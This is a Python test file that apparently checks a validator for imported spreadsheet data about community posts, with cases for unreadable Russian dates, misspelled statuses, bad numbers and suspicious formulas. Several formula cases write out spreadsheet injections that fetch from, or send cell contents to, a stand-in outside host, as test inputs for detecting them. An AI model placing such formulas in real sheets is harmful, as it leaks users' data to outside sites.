"""What could not be read."""

from __future__ import annotations

from tests.rules.cases.case import E, W, diary, fires, one, register, silent
from tests.rules.sheets import Formula, community, post

READING = [
    fires(
        "date-unreadable", "a word for the day of a post", 2, "date", E, diary(post(date="в четверг")), text="в четверг"
    ),
    fires("date-unreadable", "in an optional column", 2, "greeted_on", W, one(greeted_on="летом")),
    silent("date-unreadable", "as people write it", diary(post(date="17 ноября 2026 г."))),
    fires(
        "choice-unknown", "a slip in the status", 2, "status", E, one(status="догаворились"), suggestion="договорились"
    ),
    fires("choice-unknown", "nothing like it", 2, "advertising", W, one(advertising="зелёная"), suggestion=""),
    silent("choice-unknown", "another language", one(status="Agreed")),
    fires("number-unreadable", "a word", 2, "members", W, one(members="много")),
    silent("number-unreadable", "as people write it", one(members="2 500")),
    fires("figure-unreadable", "a word", 2, "likes", E, diary(post(likes="много"))),
    silent("figure-unreadable", "rounded", diary(post(views="1,2 тыс."))),
    fires("value-out-of-range", "less than nothing", 2, "likes", E, diary(post(likes=-3.0))),
    silent("value-out-of-range", "nothing", diary(post(likes=0.0))),
    fires(
        "setting-unreadable",
        "a word for a number",
        2,
        "value",
        E,
        register(community(), settings={"min_members": "много"}),
    ),
    silent(
        "setting-unreadable", "a number in words' company", register(community(), settings={"min_members": "2 500"})
    ),
    fires(
        "formula-suspicious",
        "pulls from outside",
        2,
        "note",
        W,
        one(note=Formula('=IMPORTXML("https://example.org";"//a")')),
        function="IMPORTXML",
    ),
    fires(
        "formula-suspicious", "an image", 2, "text", W, diary(post(text=Formula('=IMAGE("https://example.org/a.png")')))
    ),
    fires(
        "formula-suspicious",
        "carries cells to a site",
        2,
        "note",
        W,
        one(note=Formula('=HYPERLINK("https://example.org/?q="&A2;"ещё")')),
    ),
    fires(
        "formula-suspicious",
        "the same without a function",
        2,
        "note",
        W,
        one(note=Formula('="https://example.org/?q="&A2&B2')),
    ),
    silent("formula-suspicious", "a link", one(note=Formula('=HYPERLINK("https://vk.com/sokol";"Сокол")'))),
    silent("formula-suspicious", "a link made of a platform and a name", one(note=Formula('="https://vk.com/"&A2'))),
    silent("formula-suspicious", "the name of a function in a text", one(note=Formula('="IMPORTXML("&A2'))),
    silent("formula-suspicious", "a sum", diary(post(likes=Formula("=SUM(A1:A9)")))),
]
